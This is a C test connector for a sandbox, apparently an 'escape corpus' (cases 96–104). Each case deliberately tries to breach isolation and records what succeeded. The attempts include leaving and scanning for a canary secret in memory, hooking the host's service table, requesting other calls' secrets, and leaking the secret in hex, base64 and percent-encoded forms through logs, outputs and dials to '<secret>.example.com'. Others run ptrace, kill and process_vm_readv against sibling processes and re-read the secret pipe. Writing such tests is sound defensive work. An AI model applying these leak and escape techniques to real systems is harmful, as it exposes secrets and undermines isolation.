/* SPDX-License-Identifier: Apache-2.0 */
/* Sins against secrets and against other calls (escape corpus 96–104). What an attempt got, it answers; what it looks
 * for, it is told only in a form in which a search of its own memory does not find it. */
#include <caisson/connector.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#include "sandbox/frames.h"
#include "sins_look.h"

enum { FD_CALL = 3, FD_REPLY, FD_SECRET, FD_EGRESS, PAGE = 4096 };

static int calls_seen;

static long number(struct csn_call *call, const char *pointer, long otherwise)
{
    int64_t value;
    return csn_int(call, pointer, &value) ? (long)value : otherwise;
}

static int rows;

/* One row of the answer's list: what was tried, what it returned, what errno said. */
static void note(struct csn_call *call, const char *what, long result)
{
    int cause = errno;
    char pointer[32], row[160];
    snprintf(pointer, sizeof pointer, "/attempts/%d", rows++);
    snprintf(row, sizeof row, "{\"what\":\"%s\",\"result\":%ld,\"errno\":%d}", what, result, result < 0 ? cause : 0);
    csn_set_json(call, pointer, row);
}

static void start(struct csn_call *call)
{
    rows = 0;
    csn_set_json(call, "/attempts", "[]");
}

/* ── 96: what is left of another call ────────────────────────────────────────────────────────────────── */

/* Leaves the secret wherever a later call of a careless host could find it. */
static int hold(struct csn_call *call)
{
    const char *value = csn_secret(call, "canary");
    char *copies[64];
    for (int i = 0; i < 64; i++) copies[i] = value ? strdup(value) : NULL;
    for (int i = 0; i < 64; i += 2) free(copies[i]);
    csn_set_int(call, "/environment", value ? setenv("HELD", value, 1) : -1);
    return csn_ok(call);
}

static int look(struct csn_call *call)
{
    long found = 0, pages = 0;
    if (!look_for(csn_input(call, "/needle"))) return csn_fail(call, CSN_REJECTED, "no pair");
    /* heap, this object and its neighbours, the host's code and data, the stack */
    const uintptr_t anchors[] = {(uintptr_t)sbrk(0) - 1, (uintptr_t)&calls_seen, (uintptr_t)&read,
                                 (uintptr_t)call->services->secret, (uintptr_t)&found};
    for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++) found += look_around(anchors[i], &pages);
    csn_set_int(call, "/found", found);
    csn_set_int(call, "/pages", pages);
    csn_set_bool(call, "/environment", getenv("HELD") != NULL);
    return csn_ok(call);
}

/* ── 97, 98: what one call plants for the next ───────────────────────────────────────────────────────── */

static int count(struct csn_call *call)
{
    csn_set_int(call, "/count", ++calls_seen);
    return csn_ok(call);
}

static int hook_calls, hook_constructed, hook_planted;
static const char *(*true_secret)(struct csn_call *, const char *);

static void on_fork(void)
{
    hook_calls++;
}

static const char *hooked_secret(struct csn_call *call, const char *field)
{
    hook_calls++;
    return true_secret(call, field);
}

static void on_signal(int unused)
{
    hook_calls += unused;
}

__attribute__((constructor)) static void plant_early(void)
{
    struct sigaction action = {.sa_handler = on_signal};
    hook_constructed = 1;
    hook_planted += sigaction(SIGTERM, &action, NULL) == 0;
    pthread_atfork(on_fork, on_fork, on_fork);
}

/* 0, 1 and 2 are one open file for all workers: a flag of it would be there for the next. */
static bool null_marked(void)
{
    bool marked = false;
    for (int fd = 0; fd < 3; fd++) marked |= (fcntl(fd, F_GETFL) & O_NONBLOCK) != 0;
    for (int fd = 0; fd < 3; fd++) fcntl(fd, F_SETFL, O_NONBLOCK);
    return marked;
}

/* Into the table that the host hands out, and into the memory that it lies in. */
static int hook(struct csn_call *call)
{
    struct csn_services *services = (struct csn_services *)(uintptr_t)call->services;
    csn_set_int(call, "/constructed", hook_constructed);
    csn_set_int(call, "/handlers", hook_planted);
    csn_set_int(call, "/before", hook_calls);
    csn_set_bool(call, "/null", null_marked());
    csn_set_bool(call, "/table", services->secret == hooked_secret);
    csn_set_bool(call, "/environment", getenv("HOOKED") != NULL);
    true_secret = services->secret;
    services->secret = hooked_secret;
    setenv("HOOKED", "1", 1);
    csn_secret(call, "canary");
    csn_set_int(call, "/after", hook_calls);
    return csn_ok(call);
}

/* ── 99: asking for what is not its own ──────────────────────────────────────────────────────────────── */

static int ask_fields(struct csn_call *call)
{
    static const char *const names[] = {"other", "password", "", "../canary", "canary\n", "canary2", "CANARY"};
    long given = 0;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) given += csn_secret(call, names[i]) != NULL;
    csn_set_int(call, "/given", given);
    csn_set_int(call, "/own", csn_secret(call, "canary") != NULL);
    return csn_ok(call);
}

/* Whoever leaves more than a few answers unread loses the channel. */
static void hear(long *answers, long *granted)
{
    struct egress_answer answer;
    poll(&(struct pollfd){.fd = FD_EGRESS, .events = POLLIN}, 1, 100);
    while (recv(FD_EGRESS, &answer, sizeof answer, MSG_DONTWAIT) == sizeof answer) {
        ++*answers;
        *granted += answer.status == EGRESS_OK;
    }
}

/* Every type of request, for its own call, for none and for another one; and sizes that are none. */
static long egress_asks(struct csn_call *call, long *answers)
{
    struct egress_request request = {.port = 443, .host_length = 7, .host = "vault.x"};
    long sent = 0, granted = 0;
    for (uint32_t type = 12; type-- > 0;)
        for (int other = 0; other < 2; other++) {
            if (type == EGRESS_COMMIT || type == EGRESS_CLEAN || type == EGRESS_DONE) continue;
            request.type = type;
            request.id = 1000 + type * 2 + (uint32_t)other;
            memset(request.call_id, other ? 0xee : 0, sizeof request.call_id);
            request.attempt = (uint32_t)other;
            sent += send(FD_EGRESS, &request, sizeof request, MSG_NOSIGNAL) > 0;
            hear(answers, &granted);
        }
    sent += send(FD_EGRESS, &request, 1, MSG_NOSIGNAL) > 0;
    sent += send(FD_EGRESS, &request, sizeof request - 1, MSG_NOSIGNAL) > 0;
    for (int turn = 0; turn < 40 && *answers <= 10; turn++) hear(answers, &granted);
    csn_set_int(call, "/granted", granted);
    return sent;
}

static int ask_channels(struct csn_call *call)
{
    static const struct frame_head head = {0, FRAME_CALL, FRAME_VERSION, {0}};
    long answers = 0, sent;
    char byte;
    start(call);
    sent = egress_asks(call, &answers);
    csn_set_bool(call, "/answered", sent > 10 && answers > 10);
    note(call, "call-write", send(FD_CALL, &head, sizeof head, MSG_NOSIGNAL));
    note(call, "secret-write", write(FD_SECRET, &head, sizeof head));
    note(call, "reply-read", read(FD_REPLY, &byte, 1));
    return csn_ok(call);
}

/* ── 100: letting it out ─────────────────────────────────────────────────────────────────────────────── */

/* As it is, hexadecimal in both cases, base64, percent-encoded. */
static char *form_of(const char *value, int form, char *out)
{
    static const char sixty_four[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    static const char plain[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~";
    char *at = out;
    for (; form != 3 && *value; value++) {
        unsigned char one = (unsigned char)*value;
        if (form == 1) at += sprintf(at, "%02X", one);
        if (form == 2) at += sprintf(at, "%02x", one);
        if (form == 4 && !strchr(plain, one)) at += sprintf(at, "%%%02X", one);
        if (form == 0 || (form == 4 && strchr(plain, one))) *at++ = *value;
    }
    for (size_t left = strlen(value); form == 3 && left;) {
        size_t some = left < 3 ? left : 3;
        unsigned three = 0;
        for (size_t i = 0; i < 3; i++) three = three << 8 | (i < some ? (unsigned char)value[i] : 0);
        for (size_t i = 0; i < 4; i++) *at++ = i > some ? '=' : sixty_four[three >> (18 - 6 * i) & 63];
        value += some;
        left -= some;
    }
    *at = 0;
    return out;
}

static int let_out(struct csn_call *call)
{
    const char *value = csn_secret(call, "canary");
    char form[1024], text[1100], pointer[1100];
    long through = 0;
    if (!value || strlen(value) > 200 || strlen(value) < 20) return csn_fail(call, CSN_BAD_INPUT, "no such secret");
    start(call);
    csn_set_json(call, "/nested", "{\"list\":[]}");
    for (int i = 0; i < 5; i++) {
        snprintf(text, sizeof text, "Authorization: Basic %s; again %s.", form_of(value, i, form), form);
        csn_log(call, CSN_ERROR, text);
        snprintf(pointer, sizeof pointer, "/form%d", i);
        csn_set(call, pointer, text);
        snprintf(pointer, sizeof pointer, "/nested/list/%d", i);
        csn_set(call, pointer, form);
        snprintf(pointer, sizeof pointer, "/nested/key-%s", i == 4 ? "url" : form);
        csn_set(call, pointer, "member");
        snprintf(text, sizeof text, "%.200s.example.com", form);
        through += csn_dial(call, text, 443) >= 0;
        note(call, "open", open(form, O_RDONLY));
    }
    snprintf(text, sizeof text, "%.20s.%s.example.com", value, value + 20);
    csn_set_int(call, "/dialled", through + (csn_dial(call, text, 443) >= 0));
    csn_set(call, "/problem", csn_problem(call));
    if (csn_bool(call, "/fail") != 1) return csn_ok(call);
    snprintf(text, sizeof text, "the service said: %s %s", value, form_of(value, 3, form));
    return csn_fail(call, CSN_REJECTED, text);
}

/* ── 101, 102: memory and siblings ───────────────────────────────────────────────────────────────────── */

static int pages_out(struct csn_call *call)
{
    char *block = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    const char *value = csn_secret(call, "canary");
    struct timespec pause = {0, number(call, "/pause_ms", 0) * 1000000};
    start(call);
    if (value) snprintf(block, PAGE, "%s", value);
    note(call, "pageout", madvise(block, 16 * PAGE, 21 /* MADV_PAGEOUT */));
    note(call, "cold", madvise(block, 16 * PAGE, 20 /* MADV_COLD */));
    note(call, "mlock", mlock(block, 16 * PAGE));
    nanosleep(&pause, NULL);
    return csn_ok(call);
}

static int sleeps(struct csn_call *call)
{
    struct timespec pause = {number(call, "/pause_s", 1), 0};
    csn_set_int(call, "/pid", getpid());
    nanosleep(&pause, NULL);
    return csn_ok(call);
}

/* Pids of siblings are small numbers in the cell's own namespace: all of them are tried. */
static int at_sibling(struct csn_call *call)
{
    const char *how = csn_input(call, "/how") ? csn_input(call, "/how") : "";
    char bytes[16];
    struct iovec here = {bytes, sizeof bytes}, there = {&calls_seen, sizeof bytes};
    long best = -1;
    start(call);
    for (int pid = 1; pid < 64; pid++) {
        long got = -1;
        if (pid == getpid()) continue;
        if (strcmp(how, "ptrace") == 0) got = ptrace(PTRACE_SEIZE, pid, 0, 0);
        if (strcmp(how, "kill") == 0) got = syscall(SYS_kill, pid, SIGKILL);
        if (strcmp(how, "tgkill") == 0) got = syscall(SYS_tgkill, pid, pid, SIGKILL);
        if (strcmp(how, "read") == 0) got = process_vm_readv(pid, &here, 1, &there, 1, 0);
        if (got > best) best = got;
        if (strcmp(how, "tgkill") == 0 && pid > 8) break;
    }
    if (strcmp(how, "socket") == 0) best = socket(AF_UNIX, SOCK_STREAM, 0);
    if (strcmp(how, "shm") == 0) best = syscall(SYS_shmget, 0x5157, PAGE, 0666 | 01000);
    note(call, how, best);
    return csn_ok(call);
}

/* ── 103, 104: the channel ───────────────────────────────────────────────────────────────────────────── */

/* Answers, does not return, and serves the next call of its lease by itself. */
static int linger(struct csn_call *call)
{
    static union {
        struct frame_secret frame;
        char bytes[FRAME_SECRET_MAX];
    } next;
    static struct {
        struct frame_head head;
        struct frame_call call;
        char input[512];
    } asked;
    struct {
        struct frame_head head;
        char body[200];
    } reply = {{0, FRAME_REPLY, FRAME_VERSION, {0}}, ""};
    csn_set_int(call, "/count", ++calls_seen);
    csn_ok(call);
    if (read(FD_SECRET, &next, sizeof next) <= 0 || read(FD_CALL, &asked, sizeof asked) <= 0)
        for (;;) nanosleep(&(struct timespec){3600, 0}, NULL);
    int length = snprintf(reply.body, sizeof reply.body,
                          "{\"class\":\"ok\",\"answer\":{\"count\":%d,\"fields\":%u,\"lingered\":true}}", ++calls_seen,
                          next.frame.field_count);
    reply.head.length = (uint32_t)length;
    memcpy(reply.head.call_id, next.frame.call_id, sizeof reply.head.call_id);
    if (write(FD_REPLY, &reply, sizeof reply.head + (size_t)length) < 0) _exit(1);
    for (;;) nanosleep(&(struct timespec){3600, 0}, NULL);
}

/* Reads the pipe again, after the vault's end is closed where it does not stay, and through a duplicate. */
static int read_again(struct csn_call *call)
{
    static char bytes[FRAME_SECRET_MAX];
    start(call);
    note(call, "dup", dup(FD_SECRET));
    note(call, "dup-by-fcntl", fcntl(FD_SECRET, F_DUPFD, 20));
    if (csn_bool(call, "/closes") == 1) poll(&(struct pollfd){.fd = FD_SECRET}, 1, -1);
    note(call, "nonblocking", fcntl(FD_SECRET, F_SETFL, O_NONBLOCK));
    note(call, "thread", syscall(SYS_clone3, NULL, 0));
    note(call, "read", read(FD_SECRET, bytes, sizeof bytes));
    fcntl(FD_SECRET, F_SETFL, 0);
    return csn_ok(call);
}

/* One action for all of them: a lease is bound to an action, and so each mode has one worker that waits. */
static const struct {
    const char *name;
    int (*run)(struct csn_call *);
} sins[] = {{"hold", hold},
            {"look", look},
            {"count", count},
            {"hook", hook},
            {"ask-fields", ask_fields},
            {"ask-channels", ask_channels},
            {"let-out", let_out},
            {"pages-out", pages_out},
            {"sleeps", sleeps},
            {"at-sibling", at_sibling},
            {"linger", linger},
            {"read-again", read_again}};

static int perform(struct csn_call *call)
{
    const char *name = csn_input(call, "/do");
    for (size_t i = 0; name && i < sizeof sins / sizeof *sins; i++)
        if (strcmp(sins[i].name, name) == 0) return sins[i].run(call);
    return csn_fail(call, CSN_BAD_INPUT, "there is no such sin");
}

CSN_CONNECTOR("sins-e", "1.0.0", {"do", perform});
